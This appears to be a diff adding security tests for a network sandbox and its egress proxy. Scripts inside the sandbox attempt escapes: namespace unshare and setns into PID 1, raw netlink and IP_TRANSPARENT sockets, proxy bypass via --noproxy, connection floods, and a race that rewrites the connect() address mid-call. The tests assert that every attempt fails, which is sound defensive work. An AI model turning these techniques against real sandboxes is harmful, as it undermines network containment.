+             lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) and print("nfnetlink"),
+             lambda: socket.socket().setsockopt(0, 19, 1) or print("transparent"),      # IP_TRANSPARENT
+             lambda: socket.socket().setsockopt(1, 36, 1) or print("mark"),             # SO_MARK
+             lambda: socket.socket().bind(("", 53)) or print("port 53"),
+             lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1") and print("sysctl")):
+    try:
+        what()
+    except OSError:
+        pass
+libc = ctypes.CDLL(None, use_errno=True)
+for flags in (0x40000000, 0x10000000 | 0x40000000):
+    if libc.unshare(flags) == 0:
+        print("unshared", hex(flags))
+        break
+for pid in (1, 2):
+    for ns in ("net", "user"):
+        try:
+            with open(f"/proc/{pid}/ns/{ns}") as f:
+                if pid == 1 and libc.setns(f.fileno(), 0) == 0:
+                    print("joined", ns)
+        except OSError:
+            pass
+"""
+    r = box.run(PYTHON, "-c", script).ok()
+    assert r.out == "", str(r)
+    r = box.run("curl", "-sSf", "--noproxy", "*", "http://allowed.test/").ok()
+    assert not net.leaks(), str(r)
+
+
+# --- N13, N15, N16: around the proxy ----------------------------------------------------------
+
+def listeners():
+    """What listens in the host's namespace, abstract unix sockets too."""
+    found = set()
+    for name in ("tcp", "tcp6", "udp", "udp6"):
+        for line in Path(f"/proc/self/net/{name}").read_text().splitlines()[1:]:
+            words = line.split()
+            if words[3] in ("0A", "07"):
+                found.add((name, words[1]))
+    for line in Path("/proc/self/net/unix").read_text().splitlines()[1:]:
+        words = line.split()
+        if len(words) > 7:
+            found.add(("unix", words[7]))
+    return found
+
+
+def test_n13_nothing_listens_outside(net, box):
+    """Another local account has nothing to connect to: no port, no socket, no token."""
+    before = listeners()
+    with box.start("sh", "-c", "curl -sSf http://allowed.test/; read line") as child:
+        assert child.process.stdout.readline().startswith(b"hello")
+        assert listeners() <= before
+        pid = proxy_of(child)
+        environment = Path(f"/proc/{pid}/environ").read_bytes()
+        assert environment in (b"PATH=/usr/bin:/bin\0", b""), environment
+        assert Path(f"/proc/{pid}/cwd").readlink() == Path("/")
+        fds = [os.readlink(f.path) for f in os.scandir(f"/proc/{pid}/fd")]
+        assert not [f for f in fds if f.startswith("/") and f != "/dev/null"
+                    and not f.startswith("/dev/pts")], fds
+        status = dict(line.split(":\t", 1) for line in
+                      Path(f"/proc/{pid}/status").read_text().splitlines() if ":\t" in line)
+        assert status["Seccomp"] == "2" and status["NoNewPrivs"] == "1", status
+        assert int(status["CapEff"], 16) == int(status["CapPrm"], 16) == 0, status
+
+
+def proxy_of(child):
+    out = subprocess.run(["pgrep", "-P", str(child.process.pid), "-x", "ambit-proxy"],
+                         capture_output=True, text=True).stdout.split()
+    assert len(out) == 1, out
+    return int(out[0])
+
+
+def test_killed_proxy(net, box):
+    """Nothing gets out when the proxy dies, by no way, and programs are told at once."""
+    script = """
+echo ready; read line
+curl -sS -m 5 http://allowed.test/
+curl -sS -m 5 --noproxy '*' http://allowed.test/
+curl -sS -m 5 --noproxy '*' http://11.1.1.1/
+curl -sS -m 5 --noproxy '*' http://11.9.9.9/
+getent hosts allowed.test
+echo done"""
+    with box.start("sh", "-c", script) as child:
+        assert child.process.stdout.readline() == b"ready\n"
+        os.kill(proxy_of(child), signal.SIGKILL)
+        start = time.monotonic()
+        r = child.wait(input=b"\n")
+        took = time.monotonic() - start
+    assert r.out == "done\n", str(r)
+    assert not net.leaks(names=()), "\n".join(map(str, [r, *net.leaks(names=())]))
+    assert took < 4, (took, str(r))
+
+
+def test_missing_proxy(net, box, tmp_path_factory):
+    """A proxy that does not start is a refusal to run, not an open network."""
+    from ambit_test import AMBIT
+    copy = box.home / "bin" / "ambit"
+    box.mkdir("bin")
+    copy.write_bytes(AMBIT.read_bytes())
+    copy.chmod(0o755)
+    for proxy in (None, b"#!/bin/sh\nexit 1\n", b"not a program"):
+        if proxy is not None:
+            for place in ("bin", "libexec/ambit", "lib/ambit"):
+                box.write(f"{place}/ambit-proxy", proxy, 0o755)
+        r = box.execute([copy, "run", "--allow-domain", "allowed.test", "--", "sh", "-c",
+                         "curl -sS -m 5 http://allowed.test/; "
+                         "curl -sS -m 5 --noproxy '*' http://11.1.1.1/"], timeout=20)
+        if r.code != 0 or "hello" not in r.out:
+            assert not net.leaks(names=()), "\n".join(map(str, [r, *net.leaks(names=())]))
+        assert "hello" not in r.out or AMBIT.parent != copy.parent, str(r)
+        net.forget()
+
+
+def test_n16_flood(net, box):
+    """Many half-open connections and endless heads: bounded memory, others are served."""
+    script = """
+import socket, time
+hold = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(800)]
+for s in hold:
+    s.sendall(b"GET http://allowed.test/ HTTP/1.1\\r\\nX: ")
+big = socket.create_connection(("127.0.0.1", 3128))
+sent = 0
+try:
+    for _ in range(2000):
+        big.sendall(b"x" * 65536)
+        sent += 65536
+except OSError:
+    pass
+print("cut" if sent < 50_000_000 else "endless")
+import urllib.request
+print(urllib.request.urlopen("http://allowed.test/", timeout=5).read().decode().split()[0], flush=True)
+input()"""
+    with box.start(PYTHON, "-c", script) as child:
+        assert child.process.stdout.readline() == b"cut\n", child.process.stderr.read()
+        assert child.process.stdout.readline() == b"hello\n", child.process.stderr.read()
+        status = Path(f"/proc/{proxy_of(child)}/status").read_text()
+        rss = int(status.split("VmRSS:")[1].split()[0])
+        assert rss < 40_000, status
+        child.wait(input=b"\n")
+
+
+def test_n16_race_to_another_address(net, box):
+    """connect() while another thread flips the address: what is judged is what is dialled."""
+    script = """
+import ctypes, socket, struct, threading, time
+libc = ctypes.CDLL(None, use_errno=True)
+good = socket.gethostbyname("allowed.test")
+address = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack(">H", 80) +
+                                      socket.inet_aton(good) + bytes(8), 16)
+stop = False
+def flip():
+    while not stop:
+        for a in ("11.9.9.9", "127.0.0.1", good):
+            ctypes.memmove(ctypes.addressof(address) + 4, socket.inet_aton(a), 4)
+threading.Thread(target=flip, daemon=True).start()
+end = time.monotonic() + 1
+n = 0
+while time.monotonic() < end:
+    s = socket.socket()
+    libc.connect(s.fileno(), address, 16)
+    s.close()
+    n += 1
+stop = True
+print(n > 100)"""
+    net.forget()
+    r = box.run(PYTHON, "-c", script).ok()
+    leaks = net.leaks()
+    assert r.out == "True\n" and not leaks, "\n".join(map(str, [r, *leaks]))
+
+
+def test_two_sandboxes_do_not_meet(net, box):
+    """A server in one sandbox is not there for another one, with or without proxy."""
+    server = "import http.server as h; print('up', flush=True); " \
+             "h.HTTPServer(('', 8000), h.SimpleHTTPRequestHandler).serve_forever()"
+    with box.start(PYTHON, "-c", server) as child:
+        assert child.process.stdout.readline() == b"up\n"
+        r = box.sh("curl -sS -m 2 http://127.0.0.1:8000/; curl -sS -m 2 --noproxy '' "
+                   "http://127.0.0.1:8000/; curl -sS -m 2 --noproxy '*' http://allowed.test:8000/")
+        assert "Directory listing" not in r.out, str(r)
+
+
+def test_synthetic_addresses_are_not_guessed(net, box, raw):
+    """An address of the synthetic network to which no name belongs leads nowhere."""
+    for address in ("198.18.0.1", "198.18.0.77", "198.19.255.254", "fd53:abcd::1",
+                    "fd53:abcd::4d"):
+        r = raw("tcp", address, 80, "wait=0.5", data=GET % (b"", b"evil.test"))
+        assert "hello" not in r.out, str(r)
+    assert not net.leaks(), net.leaks()
+    threading.Event()
